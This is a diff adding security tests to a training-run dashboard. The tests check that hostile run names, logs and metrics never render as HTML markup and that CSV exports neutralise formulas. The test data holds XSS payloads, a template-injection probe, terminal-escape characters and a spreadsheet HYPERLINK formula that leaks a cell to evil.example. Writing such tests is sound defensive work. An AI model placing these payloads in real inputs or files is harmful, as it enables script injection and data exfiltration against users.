@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -13,6 +15,7 @@ from dashboard.accounts.models import Team, User
 from dashboard.runs.models import Run
 from dashboard.upkeep.models import Quota, Use
 from dashboard.upkeep.quotas import standing_of
+from tests.abuse.test_markup_stays_text import RAW
 from tests.dashboard.api.asking import Program, make_token
 from tests.dashboard.api.conftest import no_limits as no_limits
 from tests.dashboard.api.test_outside_trainers import open_one, tell
@@ -228,3 +231,74 @@ def test_a_full_team_is_told_no_more_and_the_trainer_comes_again(
     Quota.objects.update(max_bytes=10_000)
     assert tell(program, run, more, first=2).status_code == 200
     assert standing_of(alone.team).parts["outside"] == len(long) + len(more)
+
+
+EVIL = (
+    "<script>evil()</script><img src=x onerror=evil()>[evil](javascript:evil())"
+    "'\"{{7919*7919}}\x1b[2J\u202e"
+)
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
+ADDRESSES = (
+    *PAGES[:11], "signals/map.json", "signals/rules.json", "stream.json",
+    "groups/1/0/", "prompts/0/", "config.toml",
+)  # fmt: skip
+
+
+@pytest.fixture
+def evil_run(program: Program) -> int:
+    """Everything that a trainer may name is called so."""
+    named = {
+        "name": EVIL[:80], "tool": EVIL[:40], "version": EVIL[:40], "model": EVIL,
+        "host": EVIL[:120], "notes": EVIL, "settings": {EVIL: EVIL},
+        "rules": {EVIL[:40]: 1.0, FORMULA[:40]: 1.0}, "tags": ["<img src=x>"],
+    }  # fmt: skip
+    run: int = open_one(program, **named).json()["id"]
+    rules = {EVIL[:40]: 1.0, FORMULA[:40]: 0.5}
+    said = COMPLETION | {"text": EVIL, "rules": rules, "logs": {EVIL[:40]: EVIL}}
+    formula = COMPLETION | {"text": FORMULA, "rules": rules, "reward": 0.25}
+    told = GROUP | {"prompt": EVIL, "answer": FORMULA, "completions": [said, formula]}
+    lines = [
+        STARTED | {"device": EVIL, "versions": {EVIL: EVIL}},
+        told,
+        MEASURED | {"completions": [TOKENS | {"pieces": [EVIL]}] * 2},
+        STEP | {"metrics": {EVIL[:120]: 1.0, FORMULA: 0.5, "reward/mean": 0.5}},
+        EVALUATED | {"name": EVIL[:80], "metrics": {f"eval/{EVIL[:80]}/mean": 1.0}},
+        WARNED | {"code": EVIL[:40], "message": EVIL},
+        {"type": "run_failed", "error": EVIL, "details": EVIL},
+    ]
+    body = b"\n".join(written(each, n, 1) for n, each in enumerate(lines, start=1))
+    assert tell(program, run, body + b"\n").json()["state"] == "failed"
+    assert Run.objects.get().groups.count() == 1
+    return run
+
+
+def test_no_name_of_a_trainer_is_markup(evil_run: int, alice_client: Client) -> None:
+    at = f"/alpha/runs/{evil_run}/"
+    pages = [*(at + page for page in ADDRESSES), "/alpha/runs/", "/alpha/alerts/"]
+    pages += [f"/alpha/compare?runs={evil_run}", "/alpha/audit-log/", "/alpha/prompts/"]
+    num_seen = 0
+
+    for page in pages:
+        answer = alice_client.get(page)
+        assert answer.status_code in (200, 404), page
+        if answer.headers["Content-Type"].startswith("text/html"):
+            found = RAW.search(answer.text)
+            assert found is None, (
+                page,
+                answer.text[max(0, found.start() - 80) :][:200],
+            )
+            num_seen += "evil()" in answer.text
+    assert num_seen > 12
+
+
+def test_no_cell_of_an_outside_run_is_a_formula(
+    evil_run: int, alice_client: Client
+) -> None:
+    cells = []
+    for name in ("metrics", "completions"):
+        answer: Any = alice_client.get(f"/alpha/runs/{evil_run}/export/{name}.csv")
+        text = b"".join(answer).decode("utf-8-sig")
+        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    assert f"'{FORMULA}" in cells
+    assert not [c for c in cells if c[:1] in tuple("=@\t\r") or c.startswith("+")]
